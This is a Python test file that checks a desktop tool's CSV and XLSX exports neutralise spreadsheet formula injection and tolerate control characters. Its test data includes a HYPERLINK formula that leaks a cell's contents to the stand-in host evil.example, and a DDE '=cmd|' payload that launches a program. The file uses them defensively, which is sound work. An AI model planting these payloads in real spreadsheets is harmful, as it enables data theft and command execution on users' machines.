"""Every CSV and XLSX file the project writes is safe to open in a spreadsheet (issue 13):
formula-like text neutralised per OWASP, control characters never fail a workbook."""

from __future__ import annotations

import csv
import io
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from hmip_desktop.cli import main
from hmip_desktop.core.cells import csv_writer, neutral
from tests.core.setup.test_cli_sample import HEADER, write_caseload

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", HYPERLINK, "-"])
def test_formula_like_text_gets_a_quote_in_front(text):
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("value", ["yes", "no", "na", "plain text", "", "a=b", 3, -2, -0.5, None, "'=quoted"])
def test_other_cells_and_numbers_are_left_as_they_are(value):
    assert neutral(value) == value


def test_the_csv_writer_neutralises_every_cell():
    buf = io.StringIO()
    csv_writer(buf, lineterminator="\n").writerows([["=1", -1, "ok"], ["@x", "\t", "-1"]])
    assert buf.getvalue() == "'=1,-1,ok\n'@x,'\t,'-1\n"


@pytest.fixture
def inspection_with_hostile_notes(tmp_path, monkeypatch):
    """The demo inspection, imported into a central store, whose evidence notes include a
    vertical tab (a line break pasted from Word) and a formula."""
    monkeypatch.setenv("HMIP_KEY_PASSPHRASE", "test passphrase")
    monkeypatch.chdir(tmp_path)
    assert main(["demo", "f.sqlite", "--central", "c.sqlite", "--keys", "k"]) == 0
    db = sqlite3.connect("f.sqlite")
    with db:
        first, second = db.execute("SELECT case_read_id, question_id FROM answers WHERE note != ''"
                                   " ORDER BY case_read_id, question_id LIMIT 2").fetchall()
        db.execute("UPDATE answers SET note = ? WHERE case_read_id = ? AND question_id = ?",
                   ["Seen at home.\x0bFollow-up booked.\x01", *first])
        db.execute("UPDATE answers SET note = ? WHERE case_read_id = ? AND question_id = ?", [HYPERLINK, *second])
        db.execute("UPDATE case_reads SET edit_count = edit_count + 1")
    db.close()
    assert main(["export", "f.sqlite", "--inspection", "demo", "--key", "k", "--out", "b.bundle"]) == 0
    assert main(["central", "import", "c.sqlite", "b.bundle"]) == 0
    return tmp_path


def hmip(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "hmip_desktop.cli", *args], capture_output=True, text=True, cwd=cwd)


def test_export_data_xlsx_survives_control_characters_and_keeps_formulas_as_text(inspection_with_hostile_notes):
    root = inspection_with_hostile_notes
    out = hmip("central", "export-data", "c.sqlite", "--inspection", "demo", "--out", "x.xlsx", cwd=root)
    assert out.returncode == 0, out.stderr
    sheet = load_workbook(root / "x.xlsx")["answers"]
    notes = {cell.value: cell for cell in next(sheet.iter_cols(min_col=9, max_col=9, min_row=2))}
    assert "Seen at home. Follow-up booked. " in notes
    cell = notes[HYPERLINK]
    assert cell.data_type == "s" and cell.quotePrefix, "text that looks like a formula is stored as text"


def test_export_data_csv_neutralises_formulas(inspection_with_hostile_notes):
    root = inspection_with_hostile_notes
    out = hmip("central", "export-data", "c.sqlite", "--inspection", "demo", "--out", "csv", cwd=root)
    assert out.returncode == 0, out.stderr
    with open(root / "csv" / "answers.csv", newline="", encoding="utf-8-sig") as fh:
        notes = [row["evidence_note"] for row in csv.DictReader(fh)]
    assert "'" + HYPERLINK in notes and HYPERLINK not in notes
    assert not [n for n in notes if n[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_answers_csv_neutralises_text_but_not_judgements_or_numbers(monkeypatch, capsys):
    from hmip_desktop.core.central import answers

    rows = [{"case_id": "C1", "question_id": q, "value": v, "inspector": "insp1", "moderated": False}
            for q, v in (("t1", "=1+1"), ("k1", "yes"), ("k2", "no"), ("k3", "na"), ("n1", -2), ("n2", 1.5),
                         ("m1", ["a", "b"]), ("t2", "@cmd"))]
    monkeypatch.setattr(answers, "effective_rows", lambda store, inspection: rows)
    monkeypatch.setattr("hmip_desktop.cli.central.central_store", lambda args: None)
    assert main(["central", "answers", "c.sqlite", "--inspection", "demo", "--csv"]) == 0
    values = [r[2] for r in csv.reader(io.StringIO(capsys.readouterr().out))][1:]
    assert values == ["'=1+1", "yes", "no", "na", "-2", "1.5", "a;b", "'@cmd"]


def test_sample_output_keeps_the_input_columns_and_neutralises_their_values(tmp_path):
    source = tmp_path / "caseload.csv"
    rows = write_caseload(source, n=200)
    hostile = ("=cmd|' /C calc'!A0", "-Swansea", "@office", "+44 29")
    for i, row in enumerate(rows):
        row[1] = hostile[i % len(hostile)]
    write_caseload(source, rows=rows)
    out = tmp_path / "sample.csv"
    proc = subprocess.run([sys.executable, "-m", "hmip_desktop.cli", "sample", str(source), "--seed", "7",
                           "--out", str(out)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    with out.open(newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    assert table[0] == [*HEADER, "selection", "reserve_rank"]
    assert {r[1] for r in table[1:]} == {"'" + office for office in hostile}
